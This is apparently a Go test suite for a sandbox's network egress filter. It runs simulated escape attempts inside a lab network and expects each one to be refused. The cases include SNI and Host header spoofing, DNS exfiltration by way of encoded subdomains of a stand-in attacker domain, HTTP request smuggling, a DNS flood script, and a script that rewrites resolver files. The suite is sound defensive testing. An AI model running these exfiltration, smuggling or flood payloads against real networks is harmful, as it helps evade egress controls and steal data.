package spec_test

import (
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/bailey-dev/bailey/internal/testkit/netlab"
	"github.com/bailey-dev/bailey/internal/testkit/yard"
)

const helloAllowed = "hello from allow.test at 11.0.0.10"

// TestEGR04_OneIdentity holds all of the claim that this version has: what is
// passed untouched cannot be looked into.
func TestEGR04_OneIdentity(t *testing.T) {
	t.Attr("claim", "EGR-04")
	t.Parallel()
	gone, hello := fails("ECONNRESET"), reaches("\x16\x03")
	host := func(h string) string { return "GET / HTTP/1.1\r\nHost: " + h + "\r\nConnection: close\r\n\r\n" }
	ech := clientHello(t, "allow.test", []byte{0xfe, 0x0d, 0, 10, 0, 0, 1, 0, 1, 7, 0, 0, 0, 0})
	inPieces := func(name, to, sni string, onHost, inside want) attempt { // A016
		a := echo(name, to, "", onHost, inside)
		a.Send, a.Gap = nil, time.Millisecond
		for piece := range slices.Chunk(clientHello(t, sni, nil), 40) {
			a.Send = append(a.Send, piece)
		}
		return a
	}
	list := []attempt{
		// The name decides; the address that the sandbox chose is not dialled.
		web("A038 HTTP to another address", "11.0.0.66:80", "allow.test", reaches("hello from allow.test at 11.0.0.66"), reaches(helloAllowed)),
		secure("A001 TLS to another address", "11.0.0.66:443", "allow.test", reaches("hello from allow.test at 11.0.0.66"), reaches(helloAllowed)),
		web("A069 HTTP to a private address", "10.11.12.13:80", "allow.test", nil, reaches(helloAllowed)),
		secure("A013 upper case", "11.0.0.10:443", "ALLOW.TEST", reaches("at 11.0.0.10"), reaches("at 11.0.0.10")),
		web("A014 final dot", "11.0.0.10:80", "Allow.Test.", reaches("at 11.0.0.10"), reaches(helloAllowed)),
		say("A022 absolute form, one name", "11.0.0.10:80", "GET http://allow.test/ HTTP/1.1\r\nHost: allow.test\r\nConnection: close\r\n\r\n", reaches("hello from allow.test"), reaches(helloAllowed)),
		inPieces("A016 ClientHello in pieces", "11.0.0.10:443", "allow.test", hello, hello),
		web("A032 the connection's port", "11.0.0.10:80", "allow.test:80", reaches("at 11.0.0.10"), reaches(helloAllowed)),

		// Another name on the address of an allowed one.
		web("A040 HTTP", "11.0.0.10:80", "evil.test", reaches("hello from evil.test at 11.0.0.10"), gets403("not-allowed")),
		secure("A040 TLS", "11.0.0.10:443", "evil.test", reaches("hello from evil.test at 11.0.0.10"), gone),
		inPieces("A016 another name in pieces", "11.0.0.10:443", "evil.test", hello, gone),
		// No name.
		greet(t, "A009 address as SNI", "11.0.0.10:443", "11.0.0.10", gone),
		{Name: "A008 no SNI", Op: "tls", Net: "tcp", To: "11.0.0.10:443", Send: [][]byte{[]byte(host("x"))}, Quick: atOnce, host: reaches("at 11.0.0.10"), inside: gone},
		web("address as Host", "11.0.0.10:80", "11.0.0.10", reaches("at 11.0.0.10"), gets403("not-allowed", "--allow 11.0.0.10:80")),
		web("another address as Host", "11.0.0.10:80", "11.0.0.66", reaches("at 11.0.0.10"), gets403("name-mismatch")),
		say("no Host", "11.0.0.10:80", "GET / HTTP/1.0\r\n\r\n", reaches("at 11.0.0.10"), getsStatus("400 Bad Request", "no-name")),
		echo("A105 raw bytes on 443", "11.0.0.10:443", "CANARY\n", nil, gone),
		say("A105 raw bytes on 80", "11.0.0.10:80", "SSH-2.0-x\r\n\r\n", reaches("400 Bad Request"), gone),
		// Two names.
		say("A022 absolute form, two names", "11.0.0.10:80", "GET http://evil.test/ HTTP/1.1\r\nHost: allow.test\r\nConnection: close\r\n\r\n", reaches("hello from evil.test"), getsStatus("400 Bad Request", "name-mismatch")),
		say("A030 second request", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: allow.test\r\n\r\n"+host("evil.test"), reaches("hello from evil.test"), func(v verdict) string {
			if s := reaches(helloAllowed)(v); s != "" {
				return s
			}
			return getsStatus("421 Misdirected Request", "name-mismatch")(v)
		}),
		web("A032 another port", "11.0.0.10:80", "allow.test:8443", reaches("at 11.0.0.10"), getsStatus("400 Bad Request", "name-mismatch")),
		say("A033 Host twice", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: allow.test\r\nHost: evil.test\r\n\r\n", nil, getsStatus("400 Bad Request", "no-name")),
		say("CONNECT", "11.0.0.10:80", "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", reaches("200 OK"), getsStatus("400 Bad Request", "bad-request")),
		say("A036 forwarded host", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: evil.test\r\nX-Forwarded-Host: allow.test\r\nConnection: close\r\n\r\n", reaches("hello from evil.test"), gets403("not-allowed")),
		echo("A018 encrypted name", "11.0.0.10:443", string(ech), nil, gone),
	}
	for _, sni := range []string{"allow.test:443", " allow.test", "*.allow.test", "evil.test/allow.test", "evil.test\x00.allow.test", "[::1]", "allow.test\n"} { // A010
		list = append(list, greet(t, "A010 SNI "+sni, "11.0.0.10:443", sni, gone))
	}
	both(t, list, world, func(t *testing.T, y *yard.Yard, lab *netlab.Lab) {
		r := attack(t, y, list, "--json", "--allow", "allow.test")
		stayed(t, lab, []netip.AddrPort{onAllowed(80), onAllowed(443)}, "allow.test")
		for _, q := range lab.Requests() {
			if !strings.EqualFold(strings.TrimSuffix(q.Host, "."), "allow.test") || q.TLS != "" && !strings.EqualFold(q.TLS, "allow.test") {
				t.Errorf("a request for %q (TLS %q) reached a server", q.Host, q.TLS)
			}
		}
		reasons := map[string]bool{}
		for _, ev := range decisions(t, r) {
			reasons[ev.Reason] = true
			if ev.Verdict == "allow" && (ev.Host != "allow.test" || ev.Protocol != "dns" && ev.Address != netlab.Allowed.String()) {
				t.Errorf("allowed: %+v", ev)
			}
		}
		for _, want := range []string{"not-allowed", "no-name", "invalid-name", "name-mismatch", "unknown-protocol", "ech", "bad-request"} {
			if !reasons[want] {
				t.Errorf("no event has the reason %s", want)
			}
		}
	})
}

func TestEGR06_UnlistedNames(t *testing.T) {
	t.Attr("claim", "EGR-06")
	t.Parallel()
	const data = "mfzwizltoqqgs4zaonswg4tfoq.exfil.evil.test" // what an attacker's name server would read
	nx := answers(dns.RcodeNameError)
	prepare := func(lab *netlab.Lab) { world(lab); lab.Name(data, netlab.Evil) }
	list := []attempt{
		{Name: "allowed look-up", Op: "lookup", To: "allow.test", host: reaches("11.0.0.10"), inside: reaches("11.0.0.10")},
		{Name: "look-up", Op: "lookup", To: "evil.test", Quick: atOnce, host: reaches("11.0.0.66"), inside: fails("not found")},
		{Name: "A076 look-up with data", Op: "lookup", To: data, Quick: atOnce, host: reaches("11.0.0.66"), inside: fails("not found")},
		script("A076 by the C library", "getent hosts "+data+"; echo status $?", reaches("11.0.0.66"), reaches("status 2")),
		ask(t, "UDP", "udp", "11.0.0.53:53", data, dns.TypeA, answers(dns.RcodeSuccess, netlab.Evil), nx),
		ask(t, "UDP, AAAA", "udp", "11.0.0.53:53", data, dns.TypeAAAA, answers(dns.RcodeSuccess), nx),
		ask(t, "A076 UDP, TXT", "udp", "11.0.0.53:53", data, dns.TypeTXT, answers(dns.RcodeSuccess), nx),
		ask(t, "A080 TCP", "tcp", "11.0.0.53:53", data, dns.TypeA, answers(dns.RcodeSuccess, netlab.Evil), nx),
		ask(t, "UDP, root", "udp", "11.0.0.53:53", ".", dns.TypeNS, nx, nx),
		ask(t, "A081 another resolver", "udp", "9.9.9.9:53", data, dns.TypeA, nil, nx),
		ask(t, "reverse", "udp", "11.0.0.53:53", "66.0.0.11.in-addr.arpa", dns.TypePTR, nx, nx),

		web("HTTP", "11.0.0.66:80", "evil.test", reaches("hello from evil.test"), gets403("not-allowed",
			"bailey refused GET evil.test (port 80): not-allowed.", "evil.test:80 is not on the allow list of this sandbox", "bailey run --allow evil.test:80")),
		web("HTTP with data in the name, A078", "11.0.0.10:80", data, reaches("hello from "+data), gets403("not-allowed")),
		secure("TLS", "11.0.0.66:443", "evil.test", reaches("hello from evil.test"), fails("ECONNRESET")),
		secure("TLS with data in the name", "11.0.0.66:443", data, reaches("hello from "+data), fails("ECONNRESET")),
		echo("raw", "11.0.0.66:7", "ping\n", reaches("ping"), fails("ECONNRESET")),
		echo("SSH", "11.0.0.66:22", "", reaches("SSH-2.0-lab"), fails("ECONNRESET")),
		web("allowed", "11.0.0.10:80", "allow.test", reaches(helloAllowed), reaches(helloAllowed)),
		web("allowed host, other port", "11.0.0.10:8081", "allow.test", nil, gets403("port-not-allowed", "--allow allow.test:8081")),
	}
	both(t, list, prepare, func(t *testing.T, y *yard.Yard, lab *netlab.Lab) {
		r := attack(t, y, list, "--allow", "allow.test")
		stayed(t, lab, []netip.AddrPort{onAllowed(80)}, "allow.test")
		for _, want := range []string{
			"bailey:   evil.test (not-allowed", "   --allow evil.test\n", "   --allow 11.0.0.66:7 --allow 11.0.0.66:22\n",
			"   --allow allow.test:8081\n", "to allow them all: --allow evil.test ",
		} {
			if !strings.Contains(r.Stderr, want) {
				t.Errorf("the footer does not say %q:\n%s", want, r.Stderr)
			}
		}
		// The twin on the same path: what the footer says opens just that.
		r = attack(t, y, []attempt{
			web("HTTP", "11.0.0.66:80", "evil.test", nil, reaches("hello from evil.test at 11.0.0.66")),
			secure("TLS", "11.0.0.66:443", "evil.test", nil, reaches("hello from evil.test at 11.0.0.66")),
			echo("SSH", "11.0.0.66:22", "", nil, reaches("SSH-2.0-lab")),
			{Name: "look-up", Op: "lookup", To: "evil.test", inside: reaches("11.0.0.66")},
			web("still not", "11.0.0.66:80", data, nil, gets403("not-allowed")),
		}, "--allow", "evil.test", "--allow", "11.0.0.66:7", "--allow", "11.0.0.66:22")
		if strings.Contains(r.Stderr, "--allow 11.0.0.66:22") || !lab.Asked("evil.test") || lab.Asked(data) {
			t.Errorf("with the flags: %s\n%v", r.Stderr, lab.Questions())
		}
	})
}

func TestEGR08_NamesAreNormalisedOnce(t *testing.T) {
	t.Attr("claim", "EGR-08")
	t.Parallel()
	denied := gets403("not-allowed")
	invalid := getsStatus("400 Bad Request", "invalid-name")
	get := func(name, host string, inside want) attempt {
		return web(name, "11.0.0.10:80", host, reaches("HTTP/1.1"), inside)
	}
	list := []attempt{
		get("below the wildcard", "a.wild.test", reaches("hello from a.wild.test")),
		get("far below", "a.b.c.wild.test", reaches("hello from a.b.c.wild.test")),
		get("upper case", "A.WILD.TEST", reaches("hello from a.wild.test")),
		get("the wildcard's own name", "wild.test", denied),
		get("A041 suffix without a dot", "evilwild.test", denied),
		get("A042 prefix", "a.wild.test.evil.test", denied),
		get("below a bare host", "x.allow.test", denied),
		get("A041 bare host's suffix", "notallow.test", denied),
		get("international name as it is on the wire", "xn--bcher-kva.test", reaches("hello from xn--bcher-kva.test")),
		get("A050b punycode of ASCII", "xn--allow-.test", getsStatus("400 Bad Request", "invalid-name")),
		get("two final dots", "allow.test..", invalid),
		get("empty label", "a..wild.test", invalid),
		get("star", "*.wild.test", invalid),
		get("underscore", "a_b.wild.test", invalid),
		get("hyphen first", "-a.wild.test", invalid),
		get("comma", "a.wild.test,evil.test", invalid),
		get("percent, A034", "evil.test%00.wild.test", invalid),
		get("bracket", "[allow.test]", invalid),
		get("label of 64", strings.Repeat("a", 64)+".wild.test", invalid),
		get("name of 254", strings.Repeat("abcdefg.", 31)+"wild.tst", invalid),
		get("zone, A062", "[fe80::1%25eth0]", invalid),
		say("user name", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: allow.test@evil.test\r\nConnection: close\r\n\r\n", reaches("HTTP/1.1"), invalid),
		say("not ASCII", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: \xef\xbd\x81llow.test\r\nConnection: close\r\n\r\n", reaches("HTTP/1.1"), invalid),
		say("NUL", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: evil.test\x00.wild.test\r\nConnection: close\r\n\r\n", reaches("HTTP/1.1"), getsStatus("400 Bad Request", "bad-request")),
	}
	for _, n := range []string{"2130706433", "0x7f.1", "017700000001", "127.1", "1.1", "127.000.000.001", "0177.0.0.1"} { // A050e, A060
		list = append(list, get("A060 "+n, n, invalid))
	}
	question := func(labels ...string) []byte {
		b := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
		for _, l := range labels {
			b = append(append(b, byte(len(l))), l...)
		}
		return append(b, 0, 0, 1, 0, 1)
	}
	malformed, nx := answers(dns.RcodeFormatError), answers(dns.RcodeNameError)
	for name, b := range map[string][]byte{
		"A088 dot in a label":       question("evil.wild", "test"),
		"A088 dot before":           question("x.wild.test"),
		"A089 NUL in a label":       question("evil\x00", "wild", "test"),
		"A089 space":                question("a b", "wild", "test"),
		"A089 backslash":            question("a\\", "wild", "test"),
		"A089 high byte":            question("a\xff", "wild", "test"),
		"A096 pointer to itself":    append(question("a")[:12], 0xc0, 12, 0, 1, 0, 1),
		"A096 counts of 65535":      append([]byte{0, 7, 1, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, question("a")[12:]...),
		"two questions in a packet": append([]byte{0, 7, 1, 0, 0, 2, 0, 0, 0, 0, 0, 0}, append(question("a", "wild", "test")[12:], question("b", "wild", "test")[12:]...)...),
	} {
		list = append(list, askBytes(name, "udp", "192.0.0.1:53", b, nil, malformed))
	}
	list = append(list,
		askBytes("A090 mixed case", "udp", "192.0.0.1:53", question("aLLoW", "tEst"), nil, answers(dns.RcodeSuccess, netlab.Allowed)),
		askBytes("service name", "udp", "192.0.0.1:53", question("_x", "_tcp", "wild", "test"), nil, nx),
	)
	prepare := func(lab *netlab.Lab) {
		world(lab)
		for _, n := range []string{"a.wild.test", "a.b.c.wild.test", "xn--bcher-kva.test"} {
			lab.Name(n, netlab.Allowed)
		}
	}
	both(t, list, prepare, func(t *testing.T, y *yard.Yard, lab *netlab.Lab) {
		r := attack(t, y, list, "--json", "--allow", "*.Wild.test.", "--allow", "ALLOW.test", "--allow", "Bücher.test")
		stayed(t, lab, []netip.AddrPort{onAllowed(80)}, "allow.test", "a.wild.test", "a.b.c.wild.test", "xn--bcher-kva.test")
		for _, ev := range decisions(t, r) {
			if strings.ToLower(ev.Host) != ev.Host && ev.Verdict == "allow" {
				t.Errorf("a name that is not normalised was allowed: %+v", ev)
			}
		}
	})
}

// TestEGR09_DNSCarriesNothingOut: no byte that the sandbox chose leaves in a
// question; not even a name below an allowed wildcard, until a connection says
// it.
func TestEGR09_DNSCarriesNothingOut(t *testing.T) {
	t.Attr("claim", "EGR-09")
	t.Parallel()
	empty, nx := answers(dns.RcodeSuccess), answers(dns.RcodeNameError)
	var list []attempt
	for _, kind := range []uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeAXFR, dns.TypeSRV, dns.TypeNAPTR, dns.TypePTR, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeCAA, dns.TypeMX, dns.TypeAAAA, 65280} { // A086
		list = append(list, ask(t, "A086 "+dns.Type(kind).String(), "udp", "11.0.0.53:53", "allow.test", kind, nil, empty))
	}
	m := new(dns.Msg).SetQuestion("allow.test.", dns.TypeA)
	m.SetEdns0(1232, true)
	o := m.IsEdns0()
	o.Option = append(o.Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte("data-that-should-not-leave")}, &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "0123456789abcdef"})
	withOptions, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	list = append(list,
		askBytes("A092 options", "udp", "11.0.0.53:53", withOptions, answers(dns.RcodeSuccess, netlab.Allowed), answers(dns.RcodeSuccess, netlab.Allowed)),
		ask(t, "A084 alias to another host", "udp", "11.0.0.53:53", "alias.test", dns.TypeA, nil, answers(dns.RcodeSuccess, netlab.Evil)),
		ask(t, "A084 the alias' target", "udp", "11.0.0.53:53", "evil.test", dns.TypeA, answers(dns.RcodeSuccess, netlab.Evil), nx),
		ask(t, "A084 alias to a private address", "udp", "11.0.0.53:53", "inward.test", dns.TypeA, nil, nx),
		web("alias", "11.0.0.66:80", "alias.test", reaches("hello from alias.test at 11.0.0.66"), reaches("hello from alias.test at 11.0.0.66")),
		web("alias' target", "11.0.0.66:80", "evil.test", reaches("hello from evil.test"), gets403("not-allowed")),
		script("A100 own hosts file", "echo 11.0.0.66 allow.test >> /etc/hosts 2>/dev/null; echo nameserver 11.0.0.53 > /etc/resolv.conf; getent hosts evil.test || echo still nothing", nil, reaches("still nothing")),
	)
	const questions = 20000
	flood := `import socket, struct, time
began = time.monotonic()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(` + strconv.Itoa(questions) + `):
    q = struct.pack(">HHHHHH", i % 65536, 0x100, 1, 0, 0, 0)
    for l in ("f%d" % i, "wild", "test"):
        q += bytes([len(l)]) + l.encode()
    s.sendto(q + b"\0\0\1\0\1", ("192.0.0.1", 53))
print("flooded in", int(time.monotonic() - began) + 1)
s.settimeout(5)
for i in range(100):
    time.sleep(0.05)
    s.sendto(q + b"\0\0\1\0\1", ("192.0.0.1", 53))
    if s.recv(999)[:2] == q[:2]: break
print("and is answered again")
`
	prepare := func(lab *netlab.Lab) {
		world(lab)
		lab.Alias("alias.test", "evil.test")
		lab.Alias("inward.test", "private.test")
	}
	both(t, list, prepare, func(t *testing.T, y *yard.Yard, lab *netlab.Lab) {
		attack(t, y, list, "--allow", "allow.test", "--allow", "alias.test", "--allow", "inward.test")
		stayed(t, lab, []netip.AddrPort{onEvil(80)}, "allow.test", "alias.test", "inward.test")
		for _, q := range lab.Questions() {
			if q.Type != "A" {
				t.Errorf("A056 the question %s %s left", q.Type, q.Name)
			}
		}
		t.Run("A101 flood", func(t *testing.T) { noneLeaves(t, y, lab, flood) })
		t.Run("A077 wildcard", func(t *testing.T) { leavesWithAConnection(t, y, lab) })
	})
}

// noneLeaves floods bailey with names below an allowed wildcard.
func noneLeaves(t *testing.T, y *yard.Yard, lab *netlab.Lab, flood string) {
	t.Helper()
	y.Write(t, "flood.py", flood)
	r := y.Run(t, "run", "--json", "--allow", "*.wild.test", "--", python, "flood.py").OK(t)
	if !strings.Contains(r.Stdout, "answered again") {
		t.Errorf("after the flood: %s", r.Stdout)
	}
	for _, q := range lab.Questions() {
		if strings.HasSuffix(q.Name, ".wild.test.") {
			t.Errorf("the question %s left", q.Name)
		}
	}
	n := 0
	for _, ev := range decisions(t, r) {
		if ev.Protocol == "dns" && ev.Verdict == "allow" {
			n++
		}
	}
	if n < 100 {
		t.Errorf("%d questions of the flood were answered", n)
	}
}

// leavesWithAConnection asks for names below a wildcard, and then connects to
// one of them.
func leavesWithAConnection(t *testing.T, y *yard.Yard, lab *netlab.Lab) {
	t.Helper()
	const secret = "mfzwizltoqqgs4zaonswg4tfoq"
	lab.Name("host.wild.test", netlab.Allowed)
	lab.Name(secret+".wild.test", netlab.Allowed)
	attack(t, y, []attempt{
		{Name: "data", Op: "lookup", To: secret + ".wild.test", inside: reaches("198.18.0.")},
		script("data, by the C library", "getent hosts x."+secret+".wild.test", nil, reaches("198.18.0.")),
		ask(t, "data, TXT", "udp", "9.9.9.9:53", secret+".wild.test", dns.TypeTXT, nil, answers(dns.RcodeSuccess)),
		script("a program that looks up and connects", "curl -sS http://host.wild.test/", nil, reaches("hello from host.wild.test at 11.0.0.10")),
		script("SSH to a name", python+` -c 'import socket; print(socket.create_connection(("host.wild.test", 22)).recv(99).decode())'`, nil, reaches("SSH-2.0-lab")),
	}, "--allow", "*.wild.test", "--allow", "*.wild.test:22")
	if !lab.Asked("host.wild.test") {
		t.Error("the name of the connection was not asked for")
	}
	for _, q := range lab.Questions() {
		if strings.Contains(q.Name, secret) {
			t.Errorf("the question %s left", q.Name)
		}
	}
}

// TestEGR09_RecordsOnlyWhereTheyAreNamed: TXT and SRV by the rule that names
// them, from the policy file to the program.
func TestEGR09_RecordsOnlyWhereTheyAreNamed(t *testing.T) {
	t.Attr("claim", "EGR-09")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		lab := netlab.New(t)
		y.Wrap = lab.Enter
		lab.Record(`db.test. 60 TXT "replicaSet=x"`)
		lab.Record(`_mongodb._tcp.db.test. 60 SRV 1 2 27017 shard.db.test.`)
		lab.Record(`plain.test. 60 TXT "canary"`)
		userPolicy(t, y, `net:
  allow:
    - plain.test
    - host: db.test
      dns: [TXT, _mongodb._tcp]
`)
		got := func(kind uint16, text string) want {
			return func(v verdict) string {
				m := new(dns.Msg)
				if m.Unpack(v.Data) != nil || m.Rcode != dns.RcodeSuccess || len(m.Answer) != 1 || m.Answer[0].Header().Rrtype != kind || !strings.Contains(m.Answer[0].String(), text) {
					return "want the record"
				}
				return ""
			}
		}
		empty, nx := answers(dns.RcodeSuccess), answers(dns.RcodeNameError)
		attack(t, y, []attempt{
			ask(t, "TXT", "udp", "192.0.0.1:53", "db.test", dns.TypeTXT, nil, got(dns.TypeTXT, "replicaSet=x")),
			ask(t, "SRV", "udp", "192.0.0.1:53", "_mongodb._tcp.db.test", dns.TypeSRV, nil, got(dns.TypeSRV, "27017 shard.db.test.")),
			ask(t, "A086 TXT of another host", "udp", "192.0.0.1:53", "plain.test", dns.TypeTXT, nil, empty),
			ask(t, "A086 another service", "udp", "192.0.0.1:53", "_data._tcp.db.test", dns.TypeSRV, nil, nx),
			ask(t, "A086 below it", "udp", "192.0.0.1:53", "data.db.test", dns.TypeTXT, nil, nx),
		})
		stayed(t, lab, nil, "db.test", "_mongodb._tcp.db.test")
	})
}

// TestEGR14_AmbiguousFraming holds the part of the claim that needs no rule:
// what two parties could read in two ways does not pass.
func TestEGR14_AmbiguousFraming(t *testing.T) {
	t.Attr("claim", "EGR-14")
	t.Parallel()
	bad := getsStatus("400 Bad Request", "bad-request")
	post := func(name, fields, body string, onHost, inside want) attempt {
		return say(name, "11.0.0.10:80", "POST /x HTTP/1.1\r\nHost: allow.test\r\nConnection: close\r\n"+fields+"\r\n"+body, onHost, inside)
	}
	ok := reaches("hello from allow.test")
	list := []attempt{
		post("a length", "Content-Length: 5\r\n", "hello", ok, ok),
		post("chunks", "Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n", ok, ok),
		post("A133 length and chunks", "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\nG", ok, bad),
		post("two lengths", "Content-Length: 5\r\nContent-Length: 5\r\n", "hello", ok, bad),
		post("A134 not chunked alone", "Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n", nil, bad),
		post("A136 bare line feed", "X: y\nContent-Length: 5\r\n", "hello", ok, bad),
		say("A148 h2c by prior knowledge", "11.0.0.10:80", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", nil, bad),
		say("HTTP/1.2", "11.0.0.10:80", "GET / HTTP/1.2\r\nHost: allow.test\r\nConnection: close\r\n\r\n", ok, bad),
		say("TRACE", "11.0.0.10:80", "TRACE / HTTP/1.1\r\nHost: allow.test\r\nConnection: close\r\n\r\n", ok, bad),
		say("obs-fold", "11.0.0.10:80", "GET / HTTP/1.1\r\nHost: allow.test\r\nX: a\r\n b\r\nConnection: close\r\n\r\n", nil, bad),
		say("A148 upgrade to h2c", "11.0.0.10:80", "GET /up HTTP/1.1\r\nHost: allow.test\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", ok, ok),
	}
	both(t, list, world, func(t *testing.T, y *yard.Yard, lab *netlab.Lab) {
		attack(t, y, list, "--allow", "allow.test")
		n := 0
		for _, q := range lab.Requests() {
			if q.Header.Get("Upgrade") != "" || q.Header.Get("Http2-Settings") != "" {
				t.Errorf("an upgrade was passed on: %v", q.Header)
			}
			n++
		}
		if n != 3 {
			t.Errorf("%d requests reached the server, want 3", n)
		}
	})
}
